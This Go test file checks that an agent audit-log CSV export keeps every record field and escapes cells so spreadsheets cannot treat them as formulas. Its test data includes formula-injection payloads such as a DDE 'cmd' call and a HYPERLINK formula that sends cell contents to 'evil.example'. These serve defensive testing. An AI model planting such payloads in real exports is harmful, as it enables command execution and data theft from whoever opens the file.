package export

import (
	"encoding/csv"
	"encoding/json"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"runloop.dev/rlp/internal/record/audit"
)

// fromRow makes the exported JSON of a row, as docs/export.md says how.
func fromRow(t interface{ Fatal(...any) }, row []string) map[string]any {
	numbers := []string{"v", "seq", "run_seq", "duration_ms", "bytes", "exit_code"}
	always := map[string][]string{
		"": {
			"v", "kind", "seq", "ts", "run_seq", "run_id", "trace_id", "tenant", "agent", "severity",
			"bundle_digest", "effective_digest",
		},
		audit.KindDecision:  {"cap", "op", "target", "args_hash", "decision", "reason"},
		audit.KindCallDone:  {"verb", "status", "duration_ms", "bytes", "result_hash"},
		audit.KindCapsSwap:  {"source", "before", "after"},
		audit.KindRunFailed: {"outcome", "exit_code"},
	}
	kind := row[slices.Index(columns[:], "kind")]
	if audit.Ends(kind) {
		kind = audit.KindRunFailed
	}
	m := map[string]any{}
	for i, name := range columns {
		cell := row[i]
		if name == "detail" {
			if cell != "" {
				if err := json.Unmarshal([]byte(cell), &m); err != nil {
					t.Fatal(err)
				}
			}
			continue
		}
		if cell == "" && !slices.Contains(always[""], name) && !slices.Contains(always[kind], name) {
			continue
		}
		if slices.Contains(numbers, name) {
			var n float64
			if err := json.Unmarshal([]byte(cell), &n); err != nil {
				t.Fatal(name, cell, err)
			}
			m[name] = n
			continue
		}
		m[name] = strings.TrimPrefix(cell, "'")
	}
	return m
}

func sameAsJSON(t interface{ Fatal(...any) }, r *audit.Record, row []string) {
	line, err := r.AppendJSON(nil)
	if err != nil {
		t.Fatal(err)
	}
	var want map[string]any
	if err := json.Unmarshal(line, &want); err != nil {
		t.Fatal(err)
	}
	if got := fromRow(t, row); !reflect.DeepEqual(got, want) {
		t.Fatal("row", got, "\nrecord", want)
	}
}

// Nothing of a record is lost in its row, and no cell begins what a spreadsheet
// computes, whatever an agent made of its targets.
func TestRowIsTheRecord(t *testing.T) {
	log := example()
	rows, err := csv.NewReader(strings.NewReader(string(encode(t, CSV, Options{}, glances(t, log))))).ReadAll()
	if err != nil || !slices.Equal(rows[0], columns[:]) {
		t.Fatal(rows[0], err)
	}
	for i := range log {
		sameAsJSON(t, &log[i], rows[i+1])
	}
	// encoding/csv reads CR LF within a cell as LF, so there are none here.
	anything := rapid.StringOf(rapid.OneOf(rapid.SampledFrom([]rune("=+-@'\"\t\n ,;|＝é\ufeff")),
		rapid.RuneFrom([]rune("ab1"))))
	rapid.Check(t, func(t *rapid.T) {
		r := audit.Record{
			Seq: 1, RunSeq: 1, Time: time.UnixMilli(0).UTC(), Kept: true, Head: audit.Head{
				RunID: "r",
				Agent: anything.Draw(t, "agent"),
			},
			Decision: &audit.DecisionRecord{
				Cap: "fs.read", Op: anything.Draw(t, "op"), Target: anything.Draw(t, "target"),
				Label: anything.Draw(t, "label"), Reason: "granted",
			},
		}
		enc, err := New(CSV, Options{})
		if err != nil {
			t.Fatal(err)
		}
		codec, _ := audit.NewCodec()
		p, err := codec.Encode(&r)
		if err != nil {
			t.Fatal(err)
		}
		out, err := enc.Append(nil, &audit.Glance{Stored: p, Seq: 1})
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(string(out))).ReadAll()
		if err != nil || len(rows) != 1 {
			t.Fatal(string(out), err)
		}
		sameAsJSON(t, &r, rows[0])
		for i, cell := range rows[0] {
			if computes(cell) {
				t.Fatal(columns[i], "is", cell)
			}
		}
	})
}

// computes reports whether a spreadsheet could take a cell for a formula.
func computes(cell string) bool {
	return strings.IndexAny(strings.TrimLeft(cell, " \t\r\n\ufeff"), "=+-@＝＋－＠") == 0
}

// What agents have named files to attack whoever opens the export; the control
// is that each computes as it is.
func TestCellsAreNoFormulas(t *testing.T) {
	for _, attack := range []string{
		"=1+1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0", " =1+1", "\t=1+1", "\r=1", "\n=1", "＝1+1", "\ufeff=1",
		"=HYPERLINK(\"http://evil.example?\"&A1)",
	} {
		if !computes(attack) {
			t.Errorf("%q is no attack", attack)
		}
		cell := text(attack)
		if computes(cell) || cell[1:] != attack {
			t.Errorf("%q became %q", attack, cell)
		}
	}
	for _, plain := range []string{"", "/data/x", "a=b", "https://x/?a=-1", "é"} {
		if text(plain) != plain {
			t.Errorf("%q became %q", plain, text(plain))
		}
	}
	if text("'a") != "''a" {
		t.Errorf("an apostrophe at the beginning becomes %q", text("'a"))
	}
}
